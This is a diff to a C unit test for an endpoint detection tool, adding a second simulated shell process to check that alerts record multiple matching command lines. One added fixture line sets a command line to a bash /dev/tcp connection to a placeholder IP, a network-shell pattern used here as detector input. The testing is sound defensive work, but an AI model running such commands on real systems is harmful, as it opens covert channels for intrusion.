@@ -488,12 +488,16 @@ static void journal_makes_a_row_of_it_that_says_who_wrote_the_rule(void **state)
     struct tc_pack p;
     struct tocsin_event row;
     struct tc_harness *h;
+    struct who other[5];
+    struct tocsin_value v;
     char why[256];
 
     put_file(edr, "shell.yml", rule_text);
     h = run_edr(edr, "repeat=1h");
+    memcpy(other, shell, sizeof(other));
+    other[0].command_line = "bash -c cat </dev/tcp/10.0.0.1/99";
     start_process(h, shell, 5, 3);
-    start_process(h, shell, 5, 3);
+    start_process(h, other, 5, 3);
     alert = await_alert(h);
     assert_int_equal(tc_harness_stop(h), 0);
     again = await_alert(h);
@@ -523,6 +527,8 @@ static void journal_makes_a_row_of_it_that_says_who_wrote_the_rule(void **state)
     assert_text(&row, "command_line", shell[0].command_line);
     assert_int_equal(number(&row, "user"), 1000);
     assert_int_equal(count_of(&row, "event.process.ancestors"), 4);
+    assert_false(tocsin_find(alert->data, alert->len, "matches", &v));
+    assert_int_equal(count_of(&row, "matches.command_lines"), 2);
     tc_pack_done(&p);
     tocsin_writer_done(&params);
     tc_store_close(store);
